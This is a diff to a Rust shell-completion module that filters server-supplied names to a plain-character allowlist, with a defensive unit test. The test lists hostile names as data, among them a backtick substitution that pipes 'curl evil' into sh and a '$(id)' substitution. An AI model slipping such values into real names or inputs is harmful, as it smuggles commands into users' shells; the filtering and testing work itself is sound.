@@ -1,4 +1,7 @@
 //! Completions that know the names of servers, tools and prompts.
+//!
+//! **Invariant:** a shell puts what is offered on the command line as it stands, so a name that a
+//! server chose is offered only if it means nothing to any shell.
 
 use std::ffi::OsStr;
 use std::sync::Arc;
@@ -35,6 +38,12 @@ pub fn command(host: &Arc<dyn Host>) -> clap::Command {
     command
 }
 
+/// Whether a name has only characters that are safe on the command line of every shell.
+pub(crate) fn is_plain(name: &str) -> bool {
+    let plain = |c: char| c.is_ascii_alphanumeric() || "_.:/@-".contains(c);
+    !name.is_empty() && name.chars().all(plain)
+}
+
 fn servers(host: &dyn Host) -> Vec<String> {
     match host.load(&Options::default()) {
         Ok(setup) => setup.loaded.config.servers.keys().map(ToString::to_string).collect(),
@@ -69,5 +78,40 @@ fn seen(host: &dyn Host, kind: Kind) -> Vec<String> {
 fn fitting(typed: &OsStr, names: Vec<String>) -> Vec<CompletionCandidate> {
     let typed = typed.to_string_lossy();
     let fits = |name: &String| name.starts_with(typed.as_ref());
-    names.into_iter().filter(fits).map(CompletionCandidate::new).collect()
+    let offered = names.into_iter().filter(|name| is_plain(name));
+    offered.filter(fits).map(CompletionCandidate::new).collect()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn only_names_that_mean_nothing_to_a_shell_are_offered() {
+        let names = ["s__read_file", "s__a.b-c", "@s:file:///x", "s__2"];
+        let hostile = [
+            "s__x`curl evil|sh`",
+            "s__$(id)",
+            "s__a b",
+            "s__a;b",
+            "s__a'b",
+            "s__a\"b",
+            "s__a\nb",
+            "s__a\\b",
+            "s__*",
+            "s__a&b",
+            "s__a>b",
+            "s__{a,b}",
+            "s__~",
+            "s__\u{1b}[2J",
+            "s__ü",
+            "",
+        ];
+        let all = names.iter().chain(&hostile).map(ToString::to_string).collect();
+        let offered: Vec<String> = fitting(OsStr::new(""), all)
+            .iter()
+            .map(|candidate| candidate.get_value().to_string_lossy().into_owned())
+            .collect();
+        assert_eq!(offered, names);
+    }
 }
